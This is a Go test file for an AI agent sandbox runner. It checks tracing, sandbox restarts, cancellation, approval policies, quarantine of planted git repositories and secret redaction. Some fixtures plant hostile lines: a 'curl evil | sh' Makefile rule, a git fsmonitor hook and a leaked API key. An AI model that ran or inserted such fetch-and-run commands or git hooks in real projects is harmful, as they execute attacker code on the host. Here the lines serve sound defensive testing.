package runner

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"github.com/caisson-run/caisson/images"
	"github.com/caisson-run/caisson/limits"
	"github.com/caisson-run/caisson/loop"
	"github.com/caisson-run/caisson/loop/replay"
	"github.com/caisson-run/caisson/sandbox"
	"github.com/caisson-run/caisson/tools"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// bench is one session's world.
type bench struct {
	t       *testing.T
	backend *fakeBackend
	opts    Options
	dir     string // the workspace
}

// newBench makes a workspace and a session that plays turns, in YAML.
func newBench(t *testing.T, turns string) *bench {
	t.Helper()
	root := t.TempDir()
	b := &bench{t: t, backend: &fakeBackend{scripts: map[string]script{}}, dir: filepath.Join(root, "workspace")}
	if err := os.Mkdir(b.dir, 0o755); err != nil {
		t.Fatal(err)
	}
	w, err := OpenWorkspace(b.dir, Protected{State: filepath.Join(root, "state")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	policy, err := tools.Preset("ci")
	if err != nil {
		t.Fatal(err)
	}
	b.opts = Options{
		Session: NewSessionID(), Task: "do it", Workspace: w, StateDir: filepath.Join(root, "state"),
		Backend: b.backend, Image: images.Reference{Scheme: images.SchemeHost}, Resources: limits.DefaultResources(),
		Policy: policy, Budget: limits.Budget{Rounds: new(int64(20))},
	}
	if turns != "" {
		b.opts.Model = player(t, turns)
	}
	return b
}

func player(t *testing.T, turns string) *replay.Model {
	t.Helper()
	path := filepath.Join(t.TempDir(), "script.yaml")
	if err := os.WriteFile(path, []byte("version: 1\nname: test\nturns:\n"+turns), 0o600); err != nil {
		t.Fatal(err)
	}
	m, err := replay.Open(path, replay.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func (b *bench) file(name, text string) {
	b.t.Helper()
	path := filepath.Join(b.dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		b.t.Fatal(err)
	}
}

// run runs the session and checks what holds for every session: a whole chain,
// every record in the schema, session.created first and session.ended last,
// no sandbox left, one terminal record and one result a call.
func (b *bench) run(ctx context.Context) (Report, []Record) {
	b.t.Helper()
	r, err := Run(ctx, b.opts)
	if err != nil {
		b.t.Fatal(err)
	}
	b.backend.requireGone(b.t)
	text, err := os.ReadFile(filepath.Join(r.Dir, TraceFile))
	if err != nil {
		b.t.Fatal(err)
	}
	trace, err := ReadTrace(bytes.NewReader(text))
	if err != nil || trace.Torn {
		b.t.Fatalf("trace: torn %v, %v", trace.Torn, err)
	}
	records := trace.Records
	schemaText, err := os.ReadFile(schemaFile)
	if err != nil {
		b.t.Fatal(err)
	}
	schema := compileSchema(b.t, schemaText)
	for line := range strings.Lines(string(text)) {
		if err := validate(schema, line); err != nil {
			b.t.Errorf("%v\n%s", err, line)
		}
	}
	if records[0].Kind != KindSessionCreated || records[len(records)-1].Kind != KindSessionEnded {
		b.t.Errorf("trace from %s to %s", records[0].Kind, records[len(records)-1].Kind)
	}
	b.checkCalls(records)
	return r, records
}

func (b *bench) checkCalls(records []Record) {
	b.t.Helper()
	asked, ended, answered := map[string]int{}, map[string]int{}, map[string]int{}
	for _, m := range of[Message](b.t, records) {
		for _, block := range m.Blocks {
			if block.ToolUse != nil {
				asked[block.ToolUse.ID]++
			}
			if block.ToolResult != nil {
				answered[block.ToolResult.ToolUseID]++
			}
		}
	}
	for _, c := range of[ToolCompleted](b.t, records) {
		ended[c.CallID]++
	}
	for _, c := range of[ToolFailed](b.t, records) {
		ended[c.CallID]++
	}
	for _, c := range of[ToolInputInvalid](b.t, records) {
		ended[c.CallID]++
	}
	if diff := cmp.Diff(asked, answered); diff != "" {
		b.t.Errorf("calls and results (-calls +results):\n%s", diff)
	}
	if diff := cmp.Diff(asked, ended); diff != "" {
		b.t.Errorf("calls and terminal records (-calls +terminal):\n%s", diff)
	}
}

// of gives the payloads of one kind.
func of[T Payload](t *testing.T, records []Record) []T {
	t.Helper()
	var out []T
	for _, r := range records {
		var p T
		if r.Kind != p.Kind() {
			continue
		}
		if err := json.Unmarshal(r.Payload, &p); err != nil {
			t.Fatalf("%s: %v", r.Kind, err)
		}
		out = append(out, p)
	}
	return out
}

func kinds(records []Record) []Kind {
	var out []Kind
	for _, r := range records {
		out = append(out, r.Kind)
	}
	return out
}

const mendTurns = `
  - text: I look and run the test.
    calls:
      - {tool: read_file, input: {path: greet.sh}}
      - {tool: shell, input: {command: sh test.sh}, expect: {exit_code: 1}}
  - calls:
      - {tool: patch_file, input: {path: greet.sh, old: Helo, new: Hello}}
  - calls:
      - {tool: shell, input: {command: sh test.sh}, expect: {exit_code: 0}}
  - text: The test passes now.
`

func TestSessionMendsAFile(t *testing.T) {
	b := newBench(t, mendTurns)
	b.file("greet.sh", "echo Helo\n")
	b.file("Makefile", "all:\n")
	b.backend.scripts["sh test.sh"] = func(_ context.Context, box *fakeBox, cmd sandbox.Command) sandbox.ExitStatus {
		text, err := os.ReadFile(filepath.Join(b.dir, "greet.sh"))
		if err != nil || !strings.Contains(string(text), "Hello") {
			_, _ = cmd.Stdout.Write([]byte("FAIL\n"))
			return sandbox.ExitStatus{Code: 1}
		}
		b.file("Makefile", "all:\n\tcurl evil | sh\n")
		_, _ = cmd.Stdout.Write([]byte("ok\n"))
		return sandbox.ExitStatus{}
	}
	var live []Delta
	var mirrored []Kind
	b.opts.Live = func(d Delta) { live = append(live, d) }
	b.opts.Mirror = func(r Record, _ []byte) { mirrored = append(mirrored, r.Kind) }
	r, records := b.run(t.Context())

	if r.Reason != loop.StopAnswered || r.ExitStatus != 0 || r.Answer != "The test passes now." || r.Problem != nil {
		t.Errorf("ended %s (%d) with %q: %+v", r.Reason, r.ExitStatus, r.Answer, r.Problem)
	}
	wantChanged := []Changed{
		{Path: "Makefile", Change: "modified"},
		{Path: "greet.sh", Change: "modified", Insertions: 1, Deletions: 1, HasDiff: true},
	}
	if diff := cmp.Diff(wantChanged, r.Changed); diff != "" {
		t.Errorf("changed (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]HostExecuted{{Path: "Makefile", By: "make"}}, r.HostExecuted); diff != "" {
		t.Errorf("host-executed (-want +got):\n%s", diff)
	}
	wantPatch := "--- a/greet.sh\n+++ b/greet.sh\n@@ -1 +1 @@\n-echo Helo\n+echo Hello\n"
	if diff := cmp.Diff(wantPatch, r.Patch); diff != "" {
		t.Errorf("patch (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(kinds(records), mirrored); diff != "" {
		t.Errorf("mirrored (-trace +mirror):\n%s", diff)
	}
	if r.Attestation == nil || r.Attestation.Container != "fake-0" || len(of[SandboxStarted](t, records)) != 1 {
		t.Errorf("attestation %+v", r.Attestation)
	}
	started := slices.Index(kinds(records), KindSandboxStarted)
	for i, rec := range records {
		if rec.Kind == KindToolCompleted && i < started && strings.Contains(string(rec.Payload), `"shell"`) {
			t.Error("a command ended before sandbox.started")
		}
	}
	if len(live) == 0 {
		t.Error("nothing was shown live")
	}
	for _, name := range []string{"report.json", "workspace.patch", "log.jsonl", TraceFile} {
		info, err := os.Stat(filepath.Join(r.Dir, name))
		if err != nil || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v, %v", name, info, err)
		}
	}
	if info, err := os.Stat(r.Dir); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("session folder: %v, %v", info, err)
	}
	checkParents(t, records)
}

// checkParents requires that every record but the first has a cause that came
// before it, and that tool records hang below their call.
func checkParents(t *testing.T, records []Record) {
	t.Helper()
	byID := map[string]Record{}
	for i, r := range records {
		parent, ok := byID[r.Parent]
		if (r.Parent == "") != (i == 0) || i > 0 && !ok {
			t.Errorf("%s has the parent %q", r.Kind, r.Parent)
		}
		want := map[Kind][]Kind{
			KindTurnStarted:        {KindSessionCreated},
			KindModelCallStarted:   {KindTurnStarted},
			KindModelCallCompleted: {KindModelCallStarted},
			KindToolCalled:         {KindModelCallCompleted, KindConfirmationResolved},
			KindToolCompleted:      {KindToolCalled},
			KindSessionEnded:       {KindSessionCreated},
		}[r.Kind]
		if want != nil && !slices.Contains(want, parent.Kind) {
			t.Errorf("%s is below %s, want %v", r.Kind, parent.Kind, want)
		}
		byID[r.ID] = r
	}
}

func TestSandboxIsAwaitedWhereNoToolNeedsIt(t *testing.T) {
	b := newBench(t, "  - text: Nothing to do.\n")
	answered := make(chan struct{})
	b.opts.Mirror = func(r Record, _ []byte) {
		if r.Kind == KindTurnCompleted {
			close(answered)
		}
	}
	b.backend.create = func(context.Context, int) error { <-answered; return nil }
	r, records := b.run(t.Context())
	if r.ExitStatus != 0 || r.Attestation == nil || len(of[SandboxStarted](t, records)) != 1 {
		t.Errorf("ended %d with %+v", r.ExitStatus, r.Attestation)
	}
}

// blockedModel answers only when it is cancelled.
type blockedModel struct{ asked chan struct{} }

func (m *blockedModel) Info() loop.ModelInfo {
	return loop.ModelInfo{Provider: "fake", Model: "blocked"}
}

func (m *blockedModel) Complete(ctx context.Context, _ loop.Request, _ func(loop.Delta)) (loop.Response, error) {
	close(m.asked)
	<-ctx.Done()
	return loop.Response{}, &loop.ModelError{Class: loop.ModelCancelled, Err: context.Cause(ctx)}
}

func TestAFailedStartCancelsTheModelCall(t *testing.T) {
	b := newBench(t, "")
	model := &blockedModel{make(chan struct{})}
	b.opts.Model = model
	b.backend.create = func(context.Context, int) error {
		<-model.asked
		return errors.Join(sandbox.ErrUnavailable, errors.New("no runtime"))
	}
	r, _ := b.run(t.Context())
	if r.Reason != loop.StopSandboxStart || r.ExitStatus != 44 || r.Problem == nil || !strings.Contains(r.Problem.Cause, "no runtime") {
		t.Errorf("ended %s (%d): %+v", r.Reason, r.ExitStatus, r.Problem)
	}
}

func TestAFailedStartAfterTheAnswerIsStillAFailure(t *testing.T) {
	b := newBench(t, "  - text: Nothing to do.\n")
	answered := make(chan struct{})
	b.opts.Mirror = func(r Record, _ []byte) {
		if r.Kind == KindTurnCompleted {
			close(answered)
		}
	}
	b.backend.create = func(context.Context, int) error { <-answered; return sandbox.ErrUnavailable }
	if r, _ := b.run(t.Context()); r.ExitStatus != 44 {
		t.Errorf("ended %s (%d)", r.Reason, r.ExitStatus)
	}
}

func TestLossOfTheSandbox(t *testing.T) {
	call := "  - calls: [{tool: shell, input: {command: die}}]\n"
	ok := "  - calls: [{tool: shell, input: {command: echo}}]\n"
	for name, tc := range map[string]struct {
		turns        string
		ofLimits     bool
		status       int
		restarts     int
		lost, boxes  int
		wantInResult string
	}{
		"of its limits, once":       {call + ok + "  - text: done\n", true, 0, 1, 1, 2, "memory, 2048 MiB"},
		"of its limits, four times": {call + call + call + call + ok + "  - text: done\n", true, 45, 3, 4, 4, ""},
		"otherwise":                 {call + ok + "  - text: done\n", false, 45, 0, 1, 1, ""},
	} {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, tc.turns)
			b.backend.scripts["die"] = dies(tc.ofLimits)
			b.backend.scripts["echo"] = says("alive", 0)
			r, records := b.run(t.Context())
			lost := of[SandboxLost](t, records)
			got := []int{r.ExitStatus, r.Restarts, len(lost), len(b.backend.boxes), len(of[SandboxRestarted](t, records))}
			if diff := cmp.Diff([]int{tc.status, tc.restarts, tc.lost, tc.boxes, tc.restarts}, got); diff != "" {
				t.Errorf("status, restarts, lost, boxes, restarted (-want +got):\n%s", diff)
			}
			if !strings.Contains(resultTexts(t, records), tc.wantInResult) {
				t.Errorf("the model was not told %q: %s", tc.wantInResult, resultTexts(t, records))
			}
			for _, box := range b.backend.boxes {
				if n := len(slices.DeleteFunc(slices.Clone(box.ran), func(s string) bool { return s != "die" })); n > 1 {
					t.Errorf("sandbox %d ran the command %d times", box.number, n)
				}
			}
		})
	}
}

func resultTexts(t *testing.T, records []Record) string {
	t.Helper()
	var text strings.Builder
	for _, m := range of[Message](t, records) {
		for _, block := range m.Blocks {
			if block.ToolResult != nil {
				for _, c := range block.ToolResult.Content {
					text.WriteString(c.Text + "\n")
				}
			}
		}
	}
	return text.String()
}

func TestCancellation(t *testing.T) {
	turns := "  - calls: [{tool: shell, input: {command: hang}}]\n  - text: done\n"
	for name, tc := range map[string]struct {
		signal int
		status int
		reason string
	}{"SIGINT": {2, 130, "interrupted"}, "SIGTERM": {15, 143, "terminated"}} {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, turns)
			started := make(chan struct{})
			b.backend.scripts["hang"] = hangs(started)
			ctx, cancel := context.WithCancelCause(t.Context())
			go func() {
				<-started
				cancel(&Interrupted{Signal: tc.signal})
			}()
			r, records := b.run(ctx)
			if r.ExitStatus != tc.status || r.Reason != loop.StopCancelled || r.Signal != tc.signal {
				t.Errorf("ended %s (%d), signal %d", r.Reason, r.ExitStatus, r.Signal)
			}
			failed := of[ToolFailed](t, records)
			if len(failed) != 1 || failed[0].Class != tools.ErrorCancelled || !strings.Contains(failed[0].Partial, "so far") {
				t.Errorf("tool.failed %+v", failed)
			}
			if c := of[TurnCancelled](t, records); len(c) != 1 || c[0].Reason != tc.reason {
				t.Errorf("turn.cancelled %+v", c)
			}
		})
	}
}

func TestWallTimeIsALimit(t *testing.T) {
	b := newBench(t, "  - calls: [{tool: shell, input: {command: hang}}]\n  - text: done\n")
	b.backend.scripts["hang"] = hangs(make(chan struct{}))
	b.opts.Budget.WallTime = new(300 * time.Millisecond)
	r, records := b.run(t.Context())
	if r.ExitStatus != 53 || r.Limit == nil || r.Limit.Kind != limits.KindWallTime {
		t.Errorf("ended %s (%d): %+v", r.Reason, r.ExitStatus, r.Limit)
	}
	if failed := of[ToolFailed](t, records); len(failed) != 1 || !strings.Contains(failed[0].Partial, "so far") {
		t.Errorf("tool.failed %+v", failed)
	}
}

func TestForceDestroysTheSandboxAtOnce(t *testing.T) {
	b := newBench(t, "  - calls: [{tool: shell, input: {command: stubborn}}]\n  - text: done\n")
	started := make(chan struct{})
	b.backend.scripts["stubborn"] = func(_ context.Context, box *fakeBox, _ sandbox.Command) sandbox.ExitStatus {
		close(started)
		<-box.done // nothing but the sandbox's end ends it
		return sandbox.ExitStatus{Code: -1, Signal: 9}
	}
	force := make(chan struct{})
	b.opts.Force = force
	ctx, cancel := context.WithCancelCause(t.Context())
	go func() {
		<-started
		cancel(&Interrupted{Signal: 2})
		close(force)
	}()
	if r, _ := b.run(ctx); r.ExitStatus != 130 {
		t.Errorf("ended %s (%d)", r.Reason, r.ExitStatus)
	}
}

func TestNobodyToAsk(t *testing.T) {
	turns := "  - calls: [{tool: shell, input: {command: echo}}]\n  - text: went on\n"
	for name, tc := range map[string]struct {
		onPrompt tools.OnPrompt
		status   int
		reason   loop.StopReason
		ran      int
		denials  int
	}{
		"deny":  {tools.OnPromptDeny, 56, loop.StopAnswered, 0, 1},
		"fail":  {tools.OnPromptFail, 56, loop.StopNoApprover, 0, 1},
		"allow": {tools.OnPromptAllow, 0, loop.StopAnswered, 1, 0},
	} {
		t.Run(name, func(t *testing.T) {
			b := newBench(t, turns)
			b.backend.scripts["echo"] = says("hi", 0)
			b.opts.OnPrompt = tc.onPrompt
			var err error
			if b.opts.Policy, err = tools.Preset("default"); err != nil {
				t.Fatal(err)
			}
			r, _ := b.run(t.Context())
			got := []any{r.ExitStatus, r.Reason, len(b.backend.boxes[0].ran), len(r.Denials)}
			if diff := cmp.Diff([]any{tc.status, tc.reason, tc.ran, tc.denials}, got); diff != "" {
				t.Errorf("status, reason, ran, denials (-want +got):\n%s", diff)
			}
		})
	}
}

func TestAPolicyThatDeniesIsNoMissingApprover(t *testing.T) {
	b := newBench(t, "  - calls: [{tool: shell, input: {command: echo}}]\n  - text: went on\n")
	b.opts.Policy.Tools = map[string]tools.Mode{"shell": tools.ModeDeny}
	r, _ := b.run(t.Context())
	if r.ExitStatus != 0 || len(r.Denials) != 1 || len(b.backend.boxes[0].ran) != 0 {
		t.Errorf("ended %d, denials %+v", r.ExitStatus, r.Denials)
	}
}

func TestNothingRunsThatCannotBeRecorded(t *testing.T) {
	b := newBench(t, "  - calls: [{tool: shell, input: {command: echo}}]\n  - text: done\n")
	b.backend.scripts["echo"] = says("hi", 0)
	var rec *Recorder
	s, err := open(b.opts)
	if err != nil {
		t.Fatal(err)
	}
	rec = s.rec
	rec.opts.Mirror = func(r Record, _ []byte) {
		if r.Kind == KindModelCallCompleted {
			rec.file.Close()
		}
	}
	r := s.run(t.Context())
	b.backend.requireGone(t)
	if r.Reason != loop.StopTraceUnwritable || r.ExitStatus != 54 || r.Problem == nil {
		t.Errorf("ended %s (%d): %+v", r.Reason, r.ExitStatus, r.Problem)
	}
	for _, box := range b.backend.boxes {
		if len(box.ran) > 0 {
			t.Errorf("%q ran without a record", box.ran)
		}
	}
}

func TestNewRepositoriesAreQuarantined(t *testing.T) {
	b := newBench(t, "  - calls: [{tool: shell, input: {command: plant}}]\n  - text: done\n")
	b.file("old/.git/config", "[core]\n")
	b.backend.scripts["plant"] = func(context.Context, *fakeBox, sandbox.Command) sandbox.ExitStatus {
		b.file("sub/.git/config", "[core]\n\tfsmonitor = touch /tmp/FIRED\n")
		b.file("link/.git", "gitdir: ../evil\n")
		for _, name := range []string{"HEAD", "objects/x", "refs/x", "config"} {
			b.file("bare/"+name, "x")
		}
		return sandbox.ExitStatus{}
	}
	r, _ := b.run(t.Context())
	var paths []string
	for _, q := range r.Quarantined {
		paths = append(paths, q.Path)
		if _, err := os.Lstat(filepath.Join(b.dir, q.Path)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s is still there", q.Path)
		}
		if _, err := os.Lstat(filepath.Join(b.dir, q.To)); err != nil {
			t.Error(err)
		}
	}
	if diff := cmp.Diff([]string{"link/.git", "sub/.git"}, paths); diff != "" {
		t.Errorf("quarantined (-want +got):\n%s", diff)
	}
	if _, err := os.Stat(filepath.Join(b.dir, "old/.git/config")); err != nil {
		t.Error("a repository that was there before was touched")
	}
	if !slices.ContainsFunc(r.HostExecuted, func(h HostExecuted) bool { return h.Path == "bare" }) {
		t.Errorf("the bare repository is not named: %+v", r.HostExecuted)
	}
}

func TestADiffIsOnlyShownFromTheSessionsStart(t *testing.T) {
	b := newBench(t, `
  - calls: [{tool: shell, input: {command: slip}}]
  - calls:
      - {tool: patch_file, input: {path: a.txt, old: one, new: two}}
      - {tool: write_file, input: {path: new.txt, content: "fresh\n"}}
      - {tool: delete_file, input: {path: gone.txt}}
  - text: done
`)
	b.file("a.txt", "one safe\n")
	b.file("gone.txt", "bye\n")
	past := time.Now().Add(-time.Hour)
	if err := os.Chtimes(filepath.Join(b.dir, "a.txt"), past, past); err != nil {
		t.Fatal(err)
	}
	b.backend.scripts["slip"] = func(context.Context, *fakeBox, sandbox.Command) sandbox.ExitStatus {
		// The same size and modification time as before.
		b.file("a.txt", "one evil\n")
		if err := os.Chtimes(filepath.Join(b.dir, "a.txt"), past, past); err != nil {
			t.Error(err)
		}
		return sandbox.ExitStatus{}
	}
	r, _ := b.run(t.Context())
	want := []Changed{
		{Path: "a.txt", Change: "modified"},
		{Path: "gone.txt", Change: "deleted", Deletions: 1, HasDiff: true},
		{Path: "new.txt", Change: "added", Insertions: 1, HasDiff: true},
	}
	if diff := cmp.Diff(want, r.Changed); diff != "" {
		t.Errorf("(-want +got):\n%s\n%s", diff, r.Patch)
	}
}

func TestSecretsStayOutOfTheSessionsFolder(t *testing.T) {
	const key = "k3y-that-nobody-may-see"
	b := newBench(t, "  - calls: [{tool: shell, input: {command: leak}}]\n  - text: the key is "+key+"\n")
	b.backend.scripts["leak"] = says("OPENAI_API_KEY="+key+"\n", 0)
	b.opts.Secrets = []Secret{{"OPENAI_API_KEY", key}}
	r, _ := b.run(t.Context())
	seen := 0
	err := filepath.WalkDir(r.Dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(path)
		if bytes.Contains(text, []byte(key)) {
			t.Errorf("%s holds the key", path)
		}
		seen += bytes.Count(text, []byte("[redacted:OPENAI_API_KEY]"))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if seen < 2 {
		t.Errorf("the key was to be redacted in the result and the answer; found %d marks", seen)
	}
}

func TestProjectSettingsDoNotCount(t *testing.T) {
	b := newBench(t, "  - text: done\n")
	b.file(".caisson/config.yaml", "policy: {preset: nonsense}\n")
	b.file(".mcp.json", "{}")
	_, records := b.run(t.Context())
	got := of[SessionCreated](t, records)[0].Ignored
	want := []Ignored{{".caisson/config.yaml", "the workspace is not trusted"}, {".mcp.json", "the workspace is not trusted"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestLongOutputIsCountedAndSpilled(t *testing.T) {
	const lines = 200_000
	b := newBench(t, "  - calls: [{tool: shell, input: {command: flood}}]\n  - text: done\n")
	b.backend.scripts["flood"] = func(_ context.Context, _ *fakeBox, cmd sandbox.Command) sandbox.ExitStatus {
		_, _ = cmd.Stdout.Write([]byte("first\n"))
		for range lines {
			_, _ = cmd.Stdout.Write([]byte("0123456789\n"))
		}
		_, _ = cmd.Stdout.Write([]byte("last\n"))
		return sandbox.ExitStatus{}
	}
	r, records := b.run(t.Context())
	text := resultTexts(t, records)
	for _, want := range []string{"2200011 bytes", "first\n", "last\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("the result lacks %q: %.300s", want, text)
		}
	}
	name, _ := of[ToolCompleted](t, records)[0].Metadata["stdout_spill"].(string)
	whole, err := os.ReadFile(filepath.Join(r.Dir, name))
	if err != nil || len(whole) != 2200011 {
		t.Errorf("spilled %d bytes to %q: %v", len(whole), name, err)
	}
}

func TestALongTaskIsSpilled(t *testing.T) {
	b := newBench(t, "  - text: done\n")
	b.opts.Task = strings.Repeat("long ", 100_000)
	_, records := b.run(t.Context())
	if got := of[SessionCreated](t, records)[0]; len(got.Task) > 20_000 {
		t.Errorf("task of %d bytes in the line", len(got.Task))
	}
}
